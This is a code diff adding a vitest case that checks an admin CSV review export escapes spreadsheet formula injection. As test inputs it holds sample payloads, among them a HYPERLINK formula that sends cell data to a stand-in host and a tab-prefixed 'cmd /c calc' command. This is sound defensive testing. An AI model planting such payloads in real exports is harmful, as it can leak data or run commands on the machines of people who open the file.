@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { toCsv } from "../../src/admin/csv.js";
 import type { Db } from "../../src/store/database.js";
 import { adminApp, keyFor, type AdminTestApp } from "./helpers.js";
 
@@ -94,6 +95,22 @@ describe("review and statistics", () => {
     expect(lines.slice(0, 5)).toEqual(["metric,key,channel,value", "questions,2026-11-20,web,2", "questions,2026-11-21,telegram,1", "questions,2026-11-21,web,2", "answer_rate,2026-11-20..2026-11-21,,0.6"]);
     expect(lines).toContain("submissions,ktp-el-baru/selesai,,1");
     expect(lines).toContain("feedback_down,,,1");
+  });
+
+  it("neutralises review cells a spreadsheet would run as a formula", async () => {
+    const turn = t.services.db.prepare(
+      "INSERT INTO turns (session_id, channel, question, status, answer, citations, evidence, opd, service_id, latency_ms, created_at) VALUES ('s1', 'web', ?, 'no_answer', '', '[]', NULL, NULL, NULL, 5, ?)",
+    );
+    const attacks = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+6281 pajak", "-2+3 retribusi", "@SUM(A1:A9) kios", "\tcmd /c calc"];
+    attacks.forEach((q, i) => turn.run(q, `2026-11-22T0${i}:00:00.000Z`));
+    const lines = (await (await t.app.request("/api/admin/review.csv", { headers: curator.headers })).text()).split("\r\n");
+    expect(lines).toContain('1,2026-11-22T00:00:00.000Z,no_answer,"\'=HYPERLINK(""http://x.example/?d=""&A1,""klik"")"');
+    expect(lines).toContain("1,2026-11-22T01:00:00.000Z,no_answer,'+6281 pajak");
+    expect(lines).toContain("1,2026-11-22T02:00:00.000Z,no_answer,'-2+3 retribusi");
+    expect(lines).toContain("1,2026-11-22T03:00:00.000Z,no_answer,'@SUM(A1:A9) kios");
+    expect(lines).toContain("1,2026-11-22T04:00:00.000Z,no_answer,'\tcmd /c calc");
+    // numbers are numbers, never prefixed
+    expect(toCsv(["n"], [[-3]])).toBe("n\r\n-3\r\n");
   });
 
   it("rejects a malformed date with 400", async () => {
